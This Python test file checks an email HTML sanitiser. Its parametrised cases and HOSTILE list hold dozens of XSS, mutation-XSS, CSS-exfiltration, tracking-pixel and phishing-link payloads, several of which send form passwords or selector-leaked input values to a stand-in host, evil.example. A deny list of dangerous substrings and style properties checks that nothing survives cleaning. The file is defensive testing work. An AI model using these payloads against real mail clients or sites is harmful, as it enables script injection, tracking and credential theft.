"""Mail HTML made safe."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.email.sanitise import TAGS, remote_pictures, safe_html


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\nscript:alert(1)">x</a>',
        '<a href="data:text/html,alert(1)">x</a>',
        "<svg><script>alert(1)</script></svg>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<form action="http://evil.example"><input name=p><button>alert(1)</button></form>',
        "<style>@import url(http://evil.example/alert)</style>",
        '<div style="background:url(http://evil.example/alert(1))">x</div>',
        '<p style="width: expression(alert(1))">x</p>',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        '<base href="http://evil.example/alert(1)"><meta http-equiv=refresh content="0;url=http://evil.example/alert(1)">',
        '<object data="x.swf">alert(1)</object><embed src="alert(1)">',
        '<img src="data:image/svg+xml;base64,alert(1)">',
        '<a href="vbscript:alert(1)">x</a>',
    ],
)
def test_nothing_that_could_run_or_fetch_remains(html):
    clean = safe_html(html).lower()
    for danger in (
        "<script",
        "onerror=alert(1)>",
        "javascript:",
        "vbscript:",
        "data:text",
        "<form",
        "<input",
        "<iframe",
        "<svg",
        "url(",
        "evil.example",
    ):
        assert danger not in clean.replace("&lt;img src=1 onerror=alert(1)&gt;", "")


def test_a_mail_cannot_cover_the_page_around_it():
    clean = safe_html('<div style="position:fixed;top:0;z-index:9;color:red" class="btn" id="save">x</div>')
    assert clean == '<div style="color:red">x</div>'


def test_remote_pictures_wait_for_permission_and_enclosed_ones_stay():
    html = '<img src="http://track.example/p.gif"><img src="//track.example/q.gif">'
    html += '<img src="cid:logo@x"><img src="data:image/png;base64,iVBORw0K">'
    clean = safe_html(html)
    assert "track.example" not in clean
    assert 'src="cid:logo@x"' in clean
    assert "data:image/png" in clean
    assert remote_pictures(html) == ["http://track.example/p.gif"]
    shown = safe_html(html, pictures={"http://track.example/p.gif": "data:image/gif;base64,R0lGOD"})
    assert 'src="data:image/gif;base64,R0lGOD"' in shown
    assert "track.example" not in shown
    assert remote_pictures('<img src="cid:logo@x">') == []


def test_a_link_opens_apart_and_tells_nothing():
    clean = safe_html('<a href="https://shop.example/?a=1&amp;b=2" target="_top" rel="opener">shop</a>')
    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert 'opener"' not in clean.replace("noopener noreferrer nofollow", "")


def test_the_look_of_an_ordinary_mail_survives():
    html = '<table border="1"><tr><td style="color:#333;font-size:12px">订单</td></tr></table><blockquote>旧</blockquote>'
    clean = safe_html(html)
    assert "订单" in clean
    assert "font-size:12px" in clean
    assert "<blockquote>旧</blockquote>" in clean


@pytest.mark.timeout(200)  # what stalls takes hours
@pytest.mark.parametrize("piece", ["<div>", "&", "<b>x", "<table>", "<p>"])
def test_html_made_to_stall_the_cleaner_is_shown_as_text(piece):
    assert "您好" in safe_html("您好 " + piece * 200_000)


@pytest.mark.parametrize(
    ("link", "shown"),
    [
        ('<a href="https://evil.example/login">https://www.bank.example/login</a>', "[evil.example]"),
        ('<a href="https://bank.example@evil.example/">pay at bank.example</a>', "[evil.example]"),
        ('<a href="https://user:word@evil.example/">here</a>', "[evil.example]"),
        ('<a href="https://аpple.example/">аpple.example</a>', "[xn--pple-43d.example]"),
        ('<a href="mailto:x@evil.example">support@bank.example</a>', "[evil.example]"),
        ('<a href="https://evil.example/"><b>bank</b>.example</a>', "[evil.example]"),
        ('<a href="https://mail.bank.example/">www.bank.example or bank.example</a>', ""),
        ('<a href="https://www.bank.example/">bank.example</a>', ""),
        ('<a href="https://bank.example/x?a=1&amp;b=2">click here</a>', ""),
        ('<a href="tel:+8610">call</a>', ""),
    ],
)
def test_a_link_that_names_another_place_shows_where_it_leads(link, shown):
    clean = safe_html(link)
    assert (clean.count("["), shown in clean) == (1 if shown else 0, True)


def test_the_title_of_a_link_is_its_address_whatever_the_sender_wrote():
    clean = safe_html('<a title="https://bank.example" href="https://evil.example/?a=&quot;x">x</a>')
    assert clean.count("title=") == 1
    assert 'title="https://evil.example/' in clean


HOSTILE = [
    "<img src=x onerror=alert(1)//>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://evil.example/x 1x'>",
    "<picture><source srcset='https://evil.example/x'></picture>",
    "<video poster='https://evil.example/x'></video>",
    "<audio src='https://evil.example/x'></audio>",
    "<input type=image src='https://evil.example/x'>",
    "<table background='https://evil.example/x'><td background='https://evil.example/y'>x</td></table>",
    "<body background='https://evil.example/x'>",
    "<link rel=stylesheet href='https://evil.example/x'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='background:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='list-style:url(https://evil.example/x)'>x</div>",
    "<div style='content:url(https://evil.example/x)'>x</div>",
    "<div style='cursor:url(https://evil.example/x),auto'>x</div>",
    "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x#y)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=abc>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<button formaction='https://evil.example/'>x</button>",
    "<iframe src='https://evil.example/'></iframe>",
    "<object data='https://evil.example/'></object>",
    "<embed src='https://evil.example/'>",
    "<portal src='https://evil.example/'></portal>",
    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a ping='https://evil.example/' href='https://a.example/'>x</a>",
    "<a download href='https://a.example/evil.exe'>x</a>",
    "<p id=main class=button data-live=board hx-post=/logout hx-trigger=load>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:0'><a href='https://a.example/'>x</a></div>",
    "<div style='margin-top:-5000px;transform:scale(50);float:left'>x</div>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='https://evil.example/x'?>",
    "<img title='--&gt;&lt;script&gt;alert(1)&lt;/script&gt;' alt='`onerror=alert(1)`'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]
ALLOWED = {
    "align", "valign", "dir", "lang", "title", "style", "href", "rel", "target", "src", "alt", "width", "height", "color", "size",
    "face", "colspan", "rowspan", "bgcolor", "scope", "border", "cellpadding", "cellspacing", "span", "start", "type",
}  # fmt: skip


class Left(HTMLParser):
    """What is left after cleaning: elements, attributes, and everything that could make a browser ask for something."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.names, self.asked, self.styles = set(), set(), [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.names.add(name)
            if name == "src":
                self.asked.append(value or "")
            if name == "href" and not (value or "").startswith(("http://", "https://", "mailto:", "tel:")):
                self.asked.append(value or "")
            if name == "style":
                self.styles.append(value or "")


def harmless(html):
    left = Left(safe_html(html))
    assert left.tags <= TAGS
    assert left.names <= ALLOWED
    assert [each for each in left.asked if not each.startswith(("cid:", "data:image/"))] == []
    styles = " ".join(left.styles).lower()
    for danger in (
        "url",
        "expression",
        "position",
        "z-index",
        "opacity",
        "transform",
        "margin",
        "float",
        "\\",
        "@import",
        "image-set",
    ):
        assert danger not in styles


@pytest.mark.parametrize("html", HOSTILE)
def test_a_known_attack_leaves_nothing_behind(html):
    harmless(html)


@given(st.lists(st.sampled_from(HOSTILE) | st.sampled_from(["<", ">", "'", '"', "</", "<!--", "-->", "&#", "\x00"]), max_size=8))
def test_no_mixture_of_attacks_leaves_anything_behind(parts):
    harmless("".join(parts))


@given(st.text(max_size=300))
def test_no_text_leaves_anything_behind(text):
    harmless(text)
    harmless(f'<a href="{text}" style="{text}" title="{text}">{text}</a><img src="{text}" alt="{text}">')
